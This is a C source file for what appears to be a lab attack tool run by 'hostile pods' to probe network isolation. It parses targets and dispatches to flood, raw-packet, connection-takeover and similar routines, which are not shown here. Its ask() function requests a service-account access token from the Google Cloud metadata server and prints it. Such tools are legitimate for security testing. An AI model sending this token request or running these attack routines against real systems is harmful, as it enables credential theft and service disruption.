#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/time.h>
#include <unistd.h>

struct target parse_target(const char *address, const char *port)
{
	struct target target = { .length = 0 };

	if (inet_pton(AF_INET, address, &target.v4.sin_addr) == 1) {
		target.v4.sin_family = AF_INET;
		target.v4.sin_port = htons((uint16_t)atoi(port));
		target.length = sizeof(target.v4);
	} else if (inet_pton(AF_INET6, address, &target.v6.sin6_addr) == 1) {
		target.v6.sin6_family = AF_INET6;
		target.v6.sin6_port = htons((uint16_t)atoi(port));
		target.length = sizeof(target.v6);
	} else {
		fprintf(stderr, "%s is not an IP address\n", address);
		exit(64);
	}
	return target;
}

int make_stream(int family, int protocol)
{
	struct timeval patience = { .tv_usec = PATIENCE_MS * 1000 };
	int fd = socket(family, SOCK_STREAM, protocol);

	if (fd < 0)
		fail("no socket", errno);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	return fd;
}

int wait_readable(int fd, int timeout_ms)
{
	struct pollfd polled = { .fd = fd, .events = POLLIN };

	return poll(&polled, 1, timeout_ms) == 1;
}

void fail(const char *what, int number)
{
	printf("%s: %s\n", what, strerrorname_np(number));
	exit(0);
}

void ask(int fd)
{
	static const char request[] =
		"GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\n"
		"Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n";
	char answer[8192];
	size_t length = 0;
	const char *body;

	if (send(fd, request, sizeof(request) - 1, MSG_NOSIGNAL) < 0)
		fail("connected, sending failed", errno);
	while (length < sizeof(answer) - 1) {
		ssize_t got;

		if (!wait_readable(fd, length ? 200 : 10 * PATIENCE_MS))
			break;
		got = recv(fd, answer + length, sizeof(answer) - 1 - length, 0);
		if (got < 0)
			fail("connected, receiving failed", errno);
		if (!got)
			break;
		length += (size_t)got;
		answer[length] = 0;
		if (strstr(answer, "\r\n\r\n") && answer[length - 1] == '}')
			break;
	}
	if (!length) {
		printf("connected, no answer\n");
		exit(0);
	}
	body = strstr(answer, "\r\n\r\n");
	printf("answered %.3s %s\n", answer + 9, body ? body + 4 : "");
}

int main(int count, char **argument)
{
	const char *name = count > 1 ? argument[1] : "";

	/* Whoever started us may be gone by then. */
	alarm(60);
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(name, "connect") && count == 5)
		attack_connect(argument[2], parse_target(argument[3], argument[4]));
	else if (!strcmp(name, "keep-alive") && count == 4)
		attack_keep_alive(parse_target(argument[2], argument[3]));
	else if (!strcmp(name, "repair") && count == 6)
		attack_repair(parse_target(argument[2], argument[3]),
			      parse_target(argument[4], argument[5]));
	else if (!strcmp(name, "udp") && count == 5)
		attack_udp(argument[2], parse_target(argument[3], argument[4]));
	else if (!strcmp(name, "raw") && count == 6)
		attack_raw(argument[2], parse_target(argument[3], "40001"),
			   parse_target(argument[4], argument[5]));
	else if (!strcmp(name, "frame") && count == 7)
		attack_frame(argument[2], argument[3], parse_target(argument[4], "40002"),
			     parse_target(argument[5], argument[6]));
	else if (!strcmp(name, "pass") && count == 3)
		attack_pass(argument[2]);
	else if (!strcmp(name, "take") && count == 5)
		attack_take(argument[2], parse_target(argument[3], argument[4]));
	else if (!strcmp(name, "move") && count == 5)
		attack_move(argument[2], parse_target(argument[3], argument[4]));
	else if (!strcmp(name, "flood") && count == 6)
		attack_flood(parse_target(argument[2], argument[3]), atol(argument[4]),
			     atol(argument[5]));
	else if (!strcmp(name, "hold") && count == 6)
		attack_hold(parse_target(argument[2], argument[3]), atol(argument[4]),
			    atol(argument[5]));
	else {
		fprintf(stderr, "lab-attack: what the lab's hostile pods run; see attack.h\n");
		return 64;
	}
	return 0;
}
